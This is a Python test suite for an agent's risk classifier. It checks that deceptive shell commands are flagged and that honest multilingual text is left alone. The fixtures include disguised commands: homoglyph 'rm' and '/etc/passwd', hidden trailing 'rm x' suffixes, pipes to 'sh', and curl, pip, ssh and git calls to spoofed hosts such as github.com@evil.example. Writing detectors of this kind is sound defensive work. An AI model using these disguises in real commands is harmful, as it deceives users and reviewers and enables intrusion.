"""Texts that hide what they do are found; honest text in any script is not."""

from __future__ import annotations

from hypothesis import example, given
from hypothesis import strategies as st

from agent.risk.classifier import classify
from agent.risk.deception.findings import data_spans, deceptions, inside
from agent.risk.explain.report import explain
from agent.text.visible import make_visible, skeleton, visible_pieces
from tests.support.each import each


def rules(text: str) -> dict[str, str]:
    """Rule (without its first word) to level of what was found deceptive."""
    return {
        finding.rule.removeprefix("deception."): finding.level.value
        for finding in classify(text).findings
        if finding.rule.startswith("deception.")
    }


@each(
    ("text", "rule", "level"),
    [
        ("git\u200b status", "invisible", "high"),
        ("echo 'a\u2060b'", "invisible", "high"),
        ("echo ok\ufe0f\ufe0f", "invisible", "high"),
        ("echo ❤\ufe0f\ufe0f\ufe0e", "invisible", "high"),
        ("echo \U0001f3f4\U000e0072\U000e006d", "invisible", "high"),
        ("echo hi\U000e0020\U000e0072\U000e006d", "invisible", "high"),
        ("l\u200ds", "invisible", "high"),
        ("cat /tmp/\u200crm", "invisible", "high"),
        ("rm ខ\u200b/etc", "invisible", "high"),
        ("# \u2066fine\u2069\nrm x", "bidi", "high"),
        ("cat notes\u200e.txt", "bidi", "high"),
        ("echo \x9b31m", "escape", "high"),
        ("echo harmless\x1b[1A\x1b[2K", "escape", "high"),
        ("ls -la\x1b[201~rm x", "escape", "high"),
        ("rm x\rls  ", "return", "high"),
        ("rm x\b\b\b\bls  ", "erase", "high"),
        ("rm\u00a0-rf x", "blank", "medium"),
        ("ls\u2003-l", "blank", "medium"),
        ("ls \u2028 x", "blank", "medium"),
        ("gіt status", "lookalike", "high"),
        ("ѕudo ls", "lookalike", "high"),
        ("cat re\u0301sumе.txt", "lookalike", "high"),
        ("ls --аll", "lookalike", "high"),
        ("cat /еtc/passwd", "lookalike", "high"),
        ("cat /ｅｔｃ/passwd", "lookalike", "high"),
        ("сору a b", "lookalike", "high"),
        ("ｌｓ -l", "lookalike", "high"),
        ("𝐫𝐦 x", "lookalike", "high"),
        ("ŕm x", "lookalike", "high"),
        ("./ɡit status", "lookalike", "high"),
        ("rm –rf build", "dash", "medium"),
        ("ls —all", "dash", "medium"),
        ("ls −l", "dash", "medium"),
        ("tar ‐‐delete=x -f a.tar", "dash", "medium"),
        ("rm “my file”", "quotes", "medium"),
        ("cat x ｜ sh", "sign", "medium"),
        ("ls ； rm x", "sign", "medium"),
        ("ls ／etc", "sign", "medium"),
        ("cat a\u0300\u0301\u0302\u0303\u0304\u0305", "marks", "medium"),
        ("cat \ue0b0", "private", "medium"),
        ("cat a\ud800", "surrogate", "medium"),
        ("ls" + " " * 100 + "; rm x", "tail", "high"),
        ("ls" + " " * 50 + "; rm x", "tail", "medium"),
        ("ls" + "\t" * 8 + "; rm x", "tail", "medium"),
        ("ls" + "\u00a0" * 90 + "; rm x", "tail", "high"),
        ("ls" + "\n" * 12 + "rm x", "tail", "medium"),
        ("ls" + "\n  " * 40 + "\nrm x", "tail", "high"),
        ("echo " + "a" * 600 + "; rm x", "tail", "medium"),
        ("ls\n", "newline", "low"),
        ("ls\r\nrm x", "crlf", "medium"),
        ("curl https://github.com@evil.example/x", "url", "high"),
        ("curl https://github.com:token@evil.example/x", "url", "high"),
        ("curl https://10.0.0.1@evil.example/x", "url", "high"),
        (r"curl 'https://github.com\@evil.example/'", "url", "high"),
        (r"curl https://github.com\@evil.example/", "url", "high"),
        ("wget github.com@evil.example/x", "url", "high"),
        ("u=https://github.com@evil.example; curl $u", "url", "high"),
        ("bash -c 'curl https://github.com@evil.example'", "url", "high"),
        ("curl https://raw.githubusercontent.com.evil.example/x", "host", "high"),
        ("git clone https://github.com-login.example/x", "host", "high"),
        ("ssh git@github.com.evil.example", "host", "high"),
        ("pip install --index-url=https://pypi.org.evil.example/simple x", "host", "high"),
        ("curl https://gïthub.com/x", "host", "high"),
        ("curl https://g1thub.com/x", "host", "high"),
        ("curl https://rnicrosoft.com/x", "host", "high"),
        ("curl https://аррӏе.com/x", "host", "high"),
        ("curl https://xn--pple-43d.com/x", "host", "high"),
        ("curl https://xn--80ak6aa92e.com/x", "host", "high"),
        ("curl https://github。com/x", "host", "high"),
        ("curl https://exa%6dple.com/x", "host", "high"),
        ("curl http://0x7f.1/", "host", "high"),
        ("curl http://0x7f000001/", "host", "high"),
        ("curl http://2130706433/", "host", "high"),
        ("curl http://0177.0.0.1/", "host", "high"),
        ("wget 0x7f000001", "host", "high"),
        ("docker pull docker.io.evil.example/x", "host", "high"),
        ("ssh root@github.com.evil.example", "host", "high"),
        ("scp x github.com.evil.example:/tmp", "host", "high"),
        ("npm install https://registry.npmjs.org.evil.example/x.tgz", "host", "high"),
        ("curl https://github.com∕evil.example/x", "host", "high"),
        ("curl http://127.1/", "host", "medium"),
        ("curl https://github.com./x", "host", "medium"),
    ],
)
def test_each_trick_is_a_finding(text: str, rule: str, level: str) -> None:
    found = rules(text)
    assert found.get(rule) == level, found
    report = classify(text)
    for finding in report.findings:
        start, end = finding.span
        assert 0 <= start <= end <= len(text)
        assert finding.reason.isprintable()
    shown = explain(report)
    assert not any((char < " " and char not in "\n\t") or "\x7f" <= char <= "\x9f" for char in shown)


HONEST = [
    "echo ä ö é ñ ß ø ł",
    "ls café",
    "ls cafe\u0301",
    "cat naïve-résumé.txt",
    "echo Kırmızı ışık",
    "echo Việt Nam",
    "echo e\u0302\u0323",
    "echo 你好，世界！",
    "ls 文档（新）",
    "git commit -m '修复bug，更新README（见issue）'",
    "echo '株式会社ＡＢＣ\u3000１２３'",
    "ls ＡＢＣ株式会社",
    "touch 葛\U000e0100.txt",
    "echo 한국어 텍스트",
    "echo привет мир",
    "ls /home/отчёт-2024",
    "cat документы/о.txt",
    "mkdir рос",
    "git commit -m 'Добавил поддержку PDFка и USB-накопителей'",
    "echo ελλάδα",
    "echo 'Ελληνικό ερώτημα\u037e'",
    "echo 'ν_max νmax μs kΩ ΔT'",
    "echo 'f: ℝ→ℝ, ∀x∈ℝ'",
    "echo 1⁄2",
    "echo 'שלום עולם'",
    "ls קובץ.txt",
    "echo 'مرحبا بالعالم'",
    "echo می\u200cخواهم",
    "echo हिन्दी क्\u200dष",
    "echo ไทย",
    "echo 'ភាសា\u200bខ្មែរ'",
    "echo 'ബൈറ്റുകള്\u200d'",
    "echo সিম্\u200c-লিঙ্ক",
    "echo '👨\u200d👩\u200d👧 ❤\ufe0f 1\ufe0f\u20e3 👍🏽 🏳\ufe0f\u200d🌈'",
    "echo 🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "git commit -m 'Voilà\u00a0! 10\u00a0km'",
    "cat <<EOF\nVoilà\u00a0! L’été – enfin…\nEOF",
    "echo “hello” — fine",
    "git commit -m 'it’s fine – really'",
    "grep -rn 'a｜b' .",
    "find . -name '*–*'",
    "ls # \ue0b0",
    "echo '\ue0b0'",
    "echo 'a │ b'",
    "git log --author='Søren Ångström'",
    "echo ✓ → … ™ ©",
    "curl https://bücher.example",
    "curl https://xn--bcher-kva.example/",
    "curl https://правда.рф/",
    "curl https://google.com.br/",
    "curl https://x-access-token:abc@github.com/x",
    "curl https://user@bitbucket.org/team/x",
    "curl -s http://127.0.0.1:8080/",
    "curl http://[::1]:80/",
    "dig example.com.",
    "ping 10.0.0.1",
    "echo 'see https://github.com@evil.example/'",
    "grep https://github.com@evil.example access.log",
    "git log --grep 'https://github.com@evil.example'",
    "curl -s github.com/x.html",
    "ls        -la",
    "ls" + " " * 60 + "# a comment far away",
    "printf 'a" + " " * 90 + "b'",
    "cat <<EOF\n" + "a" + " " * 90 + "b\nEOF",
    "ls \\\n    -la",
    "ls\n\n\npwd",
    "cat " + "file.txt " * 200,
]


@each("text", HONEST)
def test_honest_text_is_left_alone(text: str) -> None:
    assert rules(text) == {}
    assert classify(text).level == "low"


SCRIPTS = st.sampled_from(
    [
        "абвгдежзийклмнопрстуфхцчшщъыьэюяіїєґ",
        "αβγδεζηθικλμνξοπρστυφχψωάέήίόύώ",
        "אבגדהוזחטיכלמנסעפצקרשת",
        "ابتثجحخدذرزسشصضطظعغفقكلمنهوي",
        "你好世界文件测试数据，。！？（）：；",
        "ひらがなカタカナ漢字、。「」ー",
        "가나다라마바사아자차카타파하",
        "कखगघचछजझटठडढतथदधनपफबभमयरलवशषसहािीुू",
        "àáâãäåæçèéêëìíîïñòóôõöøùúûüýÿœšžąęłńśźż",
        "กขฃคฅฆงจฉชซฌญ",
    ]
)
WORDS = SCRIPTS.flatmap(lambda letters: st.text(alphabet=letters, min_size=1, max_size=12)).filter(
    lambda word: any(map(str.isalpha, word))
)


@given(
    st.lists(WORDS, min_size=1, max_size=5),
    st.sampled_from(["echo {}", "git commit -m '{}'", "ls '{}'", "mkdir -p {}"]),
)
@example(["ухо", "сор"], "ls '{}'")
def test_words_of_one_script_are_never_suspected(words: list[str], template: str) -> None:
    text = template.format(" ".join(words))
    assert rules(text) == {}
    assert make_visible(text) == text


EMOJI = st.sampled_from(
    [
        "👩\u200d💻",
        "❤\ufe0f",
        "👨\u200d👩\u200d👧\u200d👦",
        "🏳\ufe0f\u200d🌈",
        "3\ufe0f\u20e3",
        "👍🏽",
        "🇩🇪",
        "☎\ufe0e",
        "👩🏽\u200d🚀",
    ]
)


@given(st.lists(EMOJI, min_size=1, max_size=6), st.sampled_from(["", " ", "a", "ä", "/"]))
def test_emoji_are_never_suspected(emoji: list[str], between: str) -> None:
    text = "echo " + between.join(emoji)
    assert rules(text) == {}
    assert make_visible(text) == text


HOSTILE = st.sampled_from(list("\x1b\r\x08\x7f\x9b\u202e\u2066\u200b\u2060\ufeff\u00ad\U000e0041\x00"))


@given(
    st.sampled_from(
        ["ls -la", "git commit -m 'text'", "echo привет", "cat <<E\nx\nE", "echo 你好", "curl https://a.example"]
    ),
    HOSTILE,
    st.data(),
)
def test_what_changes_the_screen_is_found_wherever_it_stands(text: str, char: str, data: st.DataObject) -> None:
    position = data.draw(st.integers(0, len(text) - 1))
    text = text[:position] + char + text[position:]
    if char == "\r" and text.startswith("\n", position + 1):
        return
    assert classify(text).level == "high"
    assert char not in make_visible(text)


@given(st.text())
def test_what_is_found_is_shown(text: str) -> None:
    positions = {index for index, piece in enumerate(visible_pieces(text)) if piece != text[index]}
    assert (make_visible(text) != text) == bool(positions)
    for finding in deceptions(text):
        if finding.rule not in ("deception.tail", "deception.newline"):
            assert finding.span[0] in positions


@given(st.text(alphabet="abc \n'\"\\$(`#<E", max_size=60))
def test_data_spans_are_ordered_and_apart(text: str) -> None:
    spans = data_spans(text)
    ends = [0]
    for start, end in spans:
        assert ends[-1] <= start <= end <= len(text)
        ends.append(end)


def test_what_is_data() -> None:
    text = 'echo \'a b\' "c" "$(d)" # e\ncat <<E\nf\nE\ng "h'
    marked = {text[index] for index in range(len(text)) if inside(data_spans(text), index) and text[index].isalpha()}
    assert marked == {"a", "b", "c", "e", "f"}


def test_skeletons() -> None:
    assert [skeleton(name) for name in ("ls", "ѕudо", "ｒｍ", "𝓰𝓲𝓽", "–rf", "ветка")] == [
        "ls",
        "sudo",
        "rm",
        "git",
        "-rf",
        "вeткa",
    ]
